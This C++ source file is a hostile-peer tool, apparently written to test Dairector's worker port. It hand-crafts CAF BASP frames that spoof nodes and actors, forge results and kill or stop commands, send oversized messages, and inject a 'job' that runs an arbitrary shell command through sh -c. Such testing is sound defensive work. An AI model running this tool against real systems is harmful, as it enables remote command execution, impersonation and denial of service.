// attacker: a hostile peer on the worker port, for apps.attack (issue 17).
// It speaks CAF 0.17's BASP by hand, so it can write what a well-behaved CAF
// node never would: messages to actor ids it guesses, and routed messages
// whose source node and actor it chooses (as the server itself, as a
// legitimate worker), with payloads shaped like Dairector's own messages.
//
//   attacker probe HOST:PORT [LINK]
//       connect; did the server's BASP handshake arrive (was any actor reachable)?
//   attacker send HOST:PORT [LINK] --payload KIND [--to IDS] [--as WHO] [--as-actor IDS] [...]
//       handshake, then one message of KIND to each id of --to (a range:
//       7 or 1-40), from each source actor of --as-actor, then wait for
//       replies or the connection's end
// LINK: plain TCP (default), --tls (TLS without a client certificate) or
// --cert FILE --key FILE (TLS with that certificate). The server's
// certificate is never checked: an attacker does not care who it talks to.
//
// Each run prints one line of key=value pairs and exits 0 when the BASP
// handshake arrived, 1 when it did not, 2 on a usage error.
#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <iostream>
#include <map>
#include <optional>
#include <set>

#include <CLI/CLI.hpp>
#include <caf/all.hpp>
#include <caf/io/basp/header.hpp>

#include "attack_link.hpp"
#include "dairector/actors/messages.hpp"

namespace basp = caf::io::basp;
using dairector::actors::job;
using dairector::actors::stage_result;

namespace {

// The atoms as the wire carries them (their values, not Dairector's names
// for them, which may move or go: an attacker writes what it likes).
using cancel_atom = caf::atom_constant<caf::atom("dcancel")>;
using resolve_atom = caf::atom_constant<caf::atom("dresolve")>;
using stop_atom = caf::atom_constant<caf::atom("dstop")>;
using assign_atom = caf::atom_constant<caf::atom("dassign")>;
using lost_atom = caf::atom_constant<caf::atom("dlost")>;
using kill_atom = caf::atom_constant<caf::atom("dkill")>;

constexpr std::size_t messages_max = 100'000;         // per run: ids x source actors
constexpr std::uint32_t payload_bytes_max = 64u << 20;  // what the attacker accepts to read

struct options {
  std::string address;
  bool tls = false;
  std::string cert, key;
  std::uint32_t timeout_ms = 3000;  // for the connection and the server's handshake
  std::uint32_t linger_ms = 500;    // after sending: replies, or the connection's end
  std::string payload, to, as = "self", as_actor, dest = "server";
  std::string pipeline = "victim", stage, by = "user:FORGED", command = "touch PWNED", endpoint;
  std::string capability = std::string(64, '0');  // a well-formed one, not the run's
  std::uint64_t run = 1;
  std::uint32_t stage_index = 0, mib = 1;
  bool reply = false;
};

using bytes = std::vector<char>;

struct frame {
  basp::header hdr;
  bytes payload;
};

// The next BASP frame, or why there is none.
std::string read_frame(caf::actor_system& sys, peer_link& l, frame& f, clock_type::time_point deadline) {
  bytes head(basp::header_size);
  if (auto why = l.read_exact(head.data(), head.size(), deadline); !why.empty()) return why;
  caf::binary_deserializer source{sys, head};
  if (source(f.hdr) || f.hdr.payload_len > payload_bytes_max) return "bad_frame";
  f.payload.resize(f.hdr.payload_len);
  return l.read_exact(f.payload.data(), f.payload.size(), deadline);
}

bool write_frame(caf::actor_system& sys, peer_link& l, basp::header hdr, const bytes& payload) {
  hdr.payload_len = static_cast<std::uint32_t>(payload.size());
  bytes head;
  caf::binary_serializer sink{sys, head};
  sink(hdr);
  return l.write_all(head.data(), head.size()) && l.write_all(payload.data(), payload.size());
}

template <class... Ts>
bytes serialized(caf::actor_system& sys, Ts&&... xs) {
  bytes out;
  caf::binary_serializer sink{sys, out};
  if (auto err = sink(std::forward<Ts>(xs)...)) throw std::runtime_error("cannot serialize: " + sys.render(err));
  return out;
}

// A message holding a handle to a remote actor, which this process cannot
// make: the bytes of the same message with a null handle last, whose tail
// (id 0, no node) is replaced by the forged id and node.
bytes with_forged_handle(caf::actor_system& sys, const caf::message& with_null_last, caf::actor_id aid,
                         const caf::node_id& node) {
  bytes msg = serialized(sys, with_null_last);
  const bytes null_tail = serialized(sys, caf::actor_id{0}, caf::node_id{});
  const auto tail_at = msg.end() - static_cast<long>(std::min(null_tail.size(), msg.size()));
  if (msg.size() < null_tail.size() || !std::equal(null_tail.begin(), null_tail.end(), tail_at))
    throw std::runtime_error("unexpected encoding of a null actor handle");
  msg.resize(msg.size() - null_tail.size());
  const bytes forged = serialized(sys, aid, node);
  msg.insert(msg.end(), forged.begin(), forged.end());
  return msg;
}

// Sets the fields if this build's type has them (the wire types grow a
// capability and a secret with the gate; the attacker compiles either way).
template <class T>
void forge_capability(T& x, const std::string& guess) {
  if constexpr (requires { x.capability; }) x.capability = guess;
  if constexpr (requires { x.secret; }) x.secret = guess;
}

// "ID@NODE" (NODE as CAF prints it, e.g. from the server's log).
std::pair<caf::actor_id, caf::node_id> parse_handle(const std::string& text) {
  const auto at = text.find('@');
  caf::node_id node;
  if (at == std::string::npos || caf::parse(text.substr(at + 1), node))
    throw std::runtime_error("not ID@NODE: " + text);
  return {std::stoull(text.substr(0, at)), node};
}

// The message of a payload kind, serialized.
bytes payload_of(caf::actor_system& sys, const options& o) {
  const std::string& k = o.payload;
  if (k == "result") {
    stage_result r;
    r.pipeline = o.pipeline;
    r.stage_index = o.stage_index;
    r.run = o.run;
    r.ok = true;
    r.output = R"({"forged": true})";
    r.worker = "worker:FORGED";
    forge_capability(r, o.capability);
    return serialized(sys, caf::make_message(r));
  }
  if (k == "resolve") return serialized(sys, caf::make_message(resolve_atom::value, true, std::string("forged"), o.by));
  if (k == "cancel") return serialized(sys, caf::make_message(cancel_atom::value, o.stage, o.by));
  if (k == "stop") return serialized(sys, caf::make_message(stop_atom::value));
  if (k == "assign") return serialized(sys, caf::make_message(assign_atom::value, o.stage));
  if (k == "exit") return serialized(sys, caf::make_message(caf::exit_msg{caf::actor_addr{}, caf::exit_reason::kill}));
  if (k == "kill") return serialized(sys, caf::make_message(kill_atom::value, o.pipeline, o.run));
  // The shape a worker that checks its server's secret takes.
  if (k == "kill_with_secret")
    return serialized(sys, caf::make_message(kill_atom::value, o.capability, o.pipeline, o.run));
  if (k == "lost") {
    auto [aid, node] = parse_handle(o.endpoint);
    return with_forged_handle(sys, caf::make_message(lost_atom::value, caf::actor_addr{}), aid, node);
  }
  if (k == "job") {
    job j;
    j.pipeline = o.pipeline;
    j.stage = "pwn";
    j.run = o.run;
    j.run_spec = nlohmann::json{{"command", {"sh", "-c", o.command}}}.dump();
    j.input = "{}";
    forge_capability(j, o.capability);
    return serialized(sys, caf::make_message(j));
  }
  if (k == "big") return serialized(sys, caf::make_message(std::string(std::size_t{o.mib} << 20, 'x')));
  throw std::runtime_error("unknown payload " + k);
}

// "7" or "1-40".
std::vector<std::uint64_t> ids_of(const std::string& range) {
  const auto dash = range.find('-');
  const std::uint64_t first = std::stoull(range.substr(0, dash));
  const std::uint64_t last = dash == std::string::npos ? first : std::stoull(range.substr(dash + 1));
  if (last < first || last - first >= messages_max) throw std::runtime_error("bad range " + range);
  std::vector<std::uint64_t> out;
  for (auto i = first; i <= last; ++i) out.push_back(i);
  return out;
}

// This process's node. An actor system without the middleman has no node of
// its own (it would say "none", and the server would not know where to
// answer), so one is made up: this pid on a host id of its own.
const caf::node_id& attacker_node() {
  static const caf::node_id node = [] {
    caf::node_id::default_data::host_id_type host;
    host.fill(0xA7);
    return caf::make_node_id(static_cast<std::uint32_t>(::getpid()), host);
  }();
  return node;
}

struct server_hello {
  caf::node_id node;
  caf::actor_id published = 0;
};

// The server speaks first: its node and the published actor's id.
std::optional<server_hello> handshake(caf::actor_system& sys, peer_link& l, clock_type::time_point deadline,
                                      std::string& why) {
  frame f;
  if (why = read_frame(sys, l, f, deadline); !why.empty()) return std::nullopt;
  server_hello hello;
  std::vector<std::string> app_ids;
  std::set<std::string> interface;
  caf::binary_deserializer source{sys, f.payload};
  if (f.hdr.operation != basp::message_type::server_handshake ||
      source(hello.node, app_ids, hello.published, interface)) {
    why = "not_a_server_handshake";
    return std::nullopt;
  }
  basp::header hdr{basp::message_type::client_handshake, 0, 0, 0, 0, 0};
  if (!write_frame(sys, l, hdr, serialized(sys, attacker_node()))) return why = "closed", std::nullopt;
  return hello;
}

// What came back: replies' content types (and the actor a handle names),
// after "@NODE:" the source node a routed header names (informative only:
// CAF's own answers do not always name the actor's node there).
std::string describe_frame(caf::actor_system& sys, const frame& f) {
  caf::binary_deserializer source{sys, f.payload};
  caf::node_id from, to;
  if (f.hdr.operation == basp::message_type::routed_message && source(from, to)) return "unreadable";
  const std::string origin = from ? "@" + caf::to_string(from) + ":" : "";
  std::size_t stack = 0;
  source.begin_sequence(stack);
  for (std::size_t i = 0; i < stack; ++i) {
    caf::actor_id aid = 0;
    caf::node_id node;
    source(aid, node);
  }
  std::uint16_t nr = 0;
  std::string types;
  if (source.begin_object(nr, types)) return "unreadable";
  if (types == "@<>+@actor") {
    caf::actor_id aid = 0;
    caf::node_id node;
    if (!source(aid, node)) return origin + "actor:" + std::to_string(aid) + "@" + caf::to_string(node);
  }
  if (caf::error err; types == "@<>+@error" && !source(err)) return origin + "error:" + sys.render(err);
  return origin + types;
}

int probe(caf::actor_system& sys, const options& o) {
  peer_link l;
  std::string why;
  const auto deadline = clock_type::now() + std::chrono::milliseconds(o.timeout_ms);
  std::optional<server_hello> hello;
  if (l.open(o.address, o.tls, o.cert, o.key, o.timeout_ms, why)) hello = handshake(sys, l, deadline, why);
  if (!hello) {
    std::cout << "handshake=no why=" << why << std::endl;
    return 1;
  }
  std::cout << "handshake=yes node=" << caf::to_string(hello->node) << " published=" << hello->published << std::endl;
  return 0;
}

int send(caf::actor_system& sys, const options& o) {
  peer_link l;
  std::string why;
  auto deadline = clock_type::now() + std::chrono::milliseconds(o.timeout_ms);
  std::optional<server_hello> hello;
  if (l.open(o.address, o.tls, o.cert, o.key, o.timeout_ms, why)) hello = handshake(sys, l, deadline, why);
  if (!hello) {
    std::cout << "handshake=no why=" << why << std::endl;
    return 1;
  }
  const std::string published = std::to_string(hello->published);
  const auto to = ids_of(o.to.empty() ? published : o.to);
  // Direct: from this node. Routed: from the node chosen, its actor ids too.
  const bool direct = o.as == "self" && o.dest == "server";
  caf::node_id from = attacker_node(), dest = hello->node;
  if (o.as == "server") from = hello->node;
  else if (o.as != "self" && caf::parse(o.as, from)) throw std::runtime_error("bad --as node " + o.as);
  if (o.dest != "server" && caf::parse(o.dest, dest)) throw std::runtime_error("bad --dest node " + o.dest);
  const auto sources = ids_of(o.as_actor.empty() ? (o.as == "server" ? published : "1") : o.as_actor);
  if (to.size() * sources.size() > messages_max) throw std::runtime_error("too many messages");
  // With --reply, an actor of this node is the forwarding stack: the
  // receiver's answer comes back here, whoever the forged sender is. (No
  // actor runs behind the id: the answer is read off the wire.)
  const caf::actor_id me = 1;
  bytes stack{0};  // a sequence of handles: its length, then each (id, node)
  if (o.reply) {
    stack = serialized(sys, me, attacker_node());
    stack.insert(stack.begin(), 1);
  }
  const bytes msg = payload_of(sys, o);
  std::size_t sent = 0;
  std::uint64_t request = 0;
  for (auto src : sources) {
    for (auto dst : to) {
      const auto mid = o.reply ? caf::make_message_id(++request) : caf::make_message_id();
      bytes payload = direct ? bytes{} : serialized(sys, from, dest);
      payload.insert(payload.end(), stack.begin(), stack.end());
      payload.insert(payload.end(), msg.begin(), msg.end());
      basp::header hdr{direct ? basp::message_type::direct_message : basp::message_type::routed_message, 0, 0,
                       mid.integer_value(), direct ? me : src, dst};
      if (!write_frame(sys, l, hdr, payload)) break;
      ++sent;
    }
  }
  // Replies (or the end of the connection) within the bound; heartbeats and
  // proxy bookkeeping are not replies.
  std::map<std::string, std::size_t> replies;  // what came back, how often
  std::size_t replied = 0;
  std::string end = "open";
  deadline = clock_type::now() + std::chrono::milliseconds(o.linger_ms);
  for (frame f; replied < messages_max;) {
    const auto got = read_frame(sys, l, f, deadline);
    if (got == "timeout") break;
    if (!got.empty()) {
      end = got;
      break;
    }
    // A live peer answers heartbeats: silence would get this connection
    // dropped for a reason that is not the one under test.
    if (f.hdr.operation == basp::message_type::heartbeat) {
      write_frame(sys, l, basp::header{basp::message_type::heartbeat, 0, 0, 0, 0, 0}, {});
      continue;
    }
    // CAF's own lookups of this node's named actors (spawn and config
    // servers) are no answers either.
    const bool message = f.hdr.operation == basp::message_type::direct_message ||
                         f.hdr.operation == basp::message_type::routed_message;
    if (message && !f.hdr.has(basp::header::named_receiver_flag)) {
      ++replies[describe_frame(sys, f)];
      ++replied;
    }
  }
  std::cout << "handshake=yes payload=" << o.payload << " sent=" << sent << " of=" << to.size() * sources.size()
            << " connection=" << end << " replies=" << replied;
  for (const auto& [what, n] : replies) std::cout << " reply=" << what << "*" << n;
  std::cout << std::endl;
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  ::signal(SIGPIPE, SIG_IGN);
  CLI::App app{"A hostile peer on Dairector's worker port (tests only)"};
  app.require_subcommand(1);
  options o;
  auto add_link = [&o](CLI::App* cmd) {
    cmd->add_option("address", o.address, "HOST:PORT")->required();
    cmd->add_flag("--tls", o.tls, "TLS without a client certificate");
    cmd->add_option("--cert", o.cert, "TLS with this client certificate (PEM)");
    cmd->add_option("--key", o.key, "its private key (PEM)");
    cmd->add_option("--timeout-ms", o.timeout_ms, "Each wait's bound")->check(CLI::Range(1, 60'000));
  };
  auto* probe_cmd = app.add_subcommand("probe", "Connect and report whether the BASP handshake arrived");
  add_link(probe_cmd);
  auto* send_cmd = app.add_subcommand("send", "Handshake, then send forged messages");
  add_link(send_cmd);
  send_cmd
      ->add_option("--payload", o.payload,
                   "result, resolve, cancel, stop, assign, lost, exit, kill, kill_with_secret, job, big")
      ->required();
  send_cmd->add_option("--to", o.to, "Destination actor ids: N or A-B (default: the published actor)");
  send_cmd->add_option("--as", o.as, "Source node: self (a direct message), server, or a node as CAF prints it");
  send_cmd->add_option("--as-actor", o.as_actor, "Source actor ids of routed messages: N or A-B");
  send_cmd->add_option("--dest", o.dest,
                       "Destination node: server, or a node as CAF prints it (routed via the server)");
  send_cmd->add_option("--pipeline", o.pipeline, "result, kill, job: the pipeline");
  send_cmd->add_option("--run", o.run, "result, kill, job: the run id");
  send_cmd->add_option("--stage-index", o.stage_index, "result: the stage's index");
  send_cmd->add_option("--stage", o.stage, "cancel, assign: the stage (cancel: empty = the pipeline)");
  send_cmd->add_option("--by", o.by, "resolve, cancel: who it claims to be");
  send_cmd->add_option("--command", o.command, "job: the shell command");
  send_cmd->add_option("--capability", o.capability,
                       "result, job, kill_with_secret: the capability (and secret) claimed");
  send_cmd->add_option("--endpoint", o.endpoint, "lost: the worker endpoint, ID@NODE");
  send_cmd->add_option("--mib", o.mib, "big: the message's size in MiB")->check(CLI::Range(1, 2047));
  send_cmd->add_option("--linger-ms", o.linger_ms, "How long to read replies after sending")
      ->check(CLI::Range(0, 60'000));
  send_cmd->add_flag("--reply", o.reply, "Send as requests and report the answers");
  CLI11_PARSE(app, argc, argv);
  if (o.cert.empty() != o.key.empty()) {
    std::cerr << "attacker: --cert and --key go together\n";
    return 2;
  }
  caf::actor_system_config cfg;
  dairector::actors::register_message_types(cfg);
  caf::actor_system sys{cfg};
  try {
    return probe_cmd->parsed() ? probe(sys, o) : send(sys, o);
  } catch (const std::exception& e) {
    std::cerr << "attacker: " << e.what() << "\n";
    return 2;
  }
}
